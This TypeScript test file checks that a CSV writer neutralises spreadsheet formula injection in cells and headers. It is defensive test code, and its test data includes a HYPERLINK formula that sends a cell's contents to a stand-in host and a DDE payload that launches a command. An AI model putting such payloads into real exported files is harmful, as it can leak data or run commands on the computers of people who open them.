import { expect, test } from "vitest";
import { readTable } from "./readTable.ts";
import { writeCsv } from "./writeCsv.ts";

const OPTIONS = { separator: ",", header: true, quotes: true } as const;

const cellsOf = (cells: readonly string[]): readonly (string | undefined)[] => {
  const table = readTable(
    writeCsv(
      ["id", "text"],
      cells.map((cell, index) => [`r${index}`, cell]),
    ),
    "a.csv",
    OPTIONS,
  );
  return table.rows.map(({ values }) => values.text);
};

test.each([
  "=1+1",
  '=HYPERLINK("http://x.example?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "--1",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  "-",
  "=",
  "- a list",
])("%j does not stay a formula", (cell) => {
  expect(cellsOf([cell])).toEqual([`'${cell}`.replaceAll("\r", "\n")]);
});

test("numbers stay numbers, and other text stays as it is", () => {
  const cells = ["-0.25", "+7", "-1e-7", "12", "0.9731", "a=b", "1-2", "'quoted", "x@y.example", "line\n=2", ""];
  expect(cellsOf(cells)).toEqual(cells);
});

test("names of columns are no formulas either", () => {
  expect(writeCsv(["=A1", "b"], [["1", "2"]])).toBe('"\'=A1",b\r\n1,2');
});
